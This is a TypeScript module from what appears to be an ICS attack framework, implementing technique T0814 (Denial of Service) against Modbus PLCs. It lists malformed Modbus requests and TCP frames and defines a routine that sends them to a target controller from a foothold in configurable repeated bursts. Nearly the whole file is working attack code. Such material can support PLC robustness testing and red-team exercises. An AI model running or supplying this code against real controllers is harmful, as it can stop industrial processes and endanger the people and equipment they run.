// T0814 Denial of Service: a foreign client sends what breaks the protocol, in the request and, where there is a wire, in the
// frame around it. A PLC that is not made well stops at such things.
import { z } from 'zod'
import type { Attack } from './attack.ts'
import { EverySeconds, inBursts } from './burst.ts'
import { answered, KeptLink } from './kept-link.ts'

const many = (count: number): number[] => Array<number>(count).fill(0xff)

// Counts of nothing and of one too much, bytes that are missing or too many, lengths that contradict each other, and functions
// that do not exist. A PLC that keeps to the protocol changes nothing for any of them.
const REQUESTS = [
  [3, 0, 0, 0, 0],
  [3, 0, 0, 0, 126],
  [3, 0, 0, 0xff, 0xff],
  [3, 0xff, 0xff, 0, 2],
  [1, 0, 0, 0x07, 0xd1],
  [1, 0, 0, 0xff, 0xff],
  [4, 0],
  [4, 0, 0, 0, 1, 0, 0],
  [5, 0, 0, 0x12, 0x34],
  [6, 0, 0],
  [15, 0, 0, 0, 8, 0],
  [15, 0, 0, 0, 0, 0],
  [16, 0, 0, 0, 2, 4, 0],
  [16, 0, 0, 0, 124, 248, ...many(247)],
  [22, 0, 0, 0, 1],
  [23, 0, 0, 0, 1, 0, 0, 0, 2, 2, 0, 0],
  [8, 0],
  [8, 0xff, 0xff, 0, 0],
  [20, 255, 6, ...many(100)],
  [43, 14, 9, 0],
  [43, 0xff],
  [0],
  [0x80, 1],
  [0xff, ...many(252)],
  [99, ...many(200)]
].map((bytes) => Uint8Array.from(bytes))

// Modbus Messaging on TCP/IP Implementation Guide V1.0b, 3.1.3: another protocol, no length, too long a length, half a frame, a
// frame and half another, a serial frame with a wrong checksum, and the beginning of something else altogether.
const FRAMES = [
  [0, 1, 0xde, 0xad, 0, 6, 1, 3, 0, 0, 0, 1],
  [0, 2, 0, 0, 0, 0, 1],
  [0, 3, 0, 0, 0xff, 0xff, 1, 3],
  [0, 4, 0, 0, 0, 6, 1, 3, 0],
  [0, 5, 0, 0, 0, 1, 1],
  [0, 6, 0, 0, 0, 255, 1, ...many(254)],
  [0, 7, 0, 0, 0, 6, 1, 3, 0, 0, 0, 1, 0, 8, 0, 0],
  [1, 3, 0, 0, 0, 1, 0xde, 0xad],
  [...Buffer.from('GET / HTTP/1.1\r\n\r\n')],
  [0],
  many(260)
].map((bytes) => Uint8Array.from(bytes))

const Parameters = z.strictObject({
  perStrike: z.int().min(1).max(50).default(8).describe('How many are sent at each strike.'),
  everySeconds: EverySeconds
})

export const malformedFrames = {
  name: 'malformed-frames',
  title: { zh: '畸形报文', en: 'Malformed frames' },
  technique: 'T0814',
  parameters: Parameters,
  async aim(foothold, { perStrike, everySeconds }) {
    const link = await KeptLink.open(foothold)
    const frames = link.hasWire ? FRAMES.map((bytes) => ({ bytes, isFrame: true })) : []
    const all = [...REQUESTS.map((bytes) => ({ bytes, isFrame: false })), ...frames]
    const send = async ({ bytes, isFrame }: (typeof all)[number]) => {
      // The PLC cuts the connection after such a frame, if it does anything: that is no reason to end the strike.
      if (isFrame) {
        await answered(() => link.raw(bytes))
        return link.cut()
      }
      await link.request(bytes)
    }
    return {
      ...{ tags: [], hosts: [link.host], insistSeconds: everySeconds },
      strike: inBursts(all, { perStrike, send }),
      undo: () => link.cut()
    }
  }
} satisfies Attack<typeof Parameters>
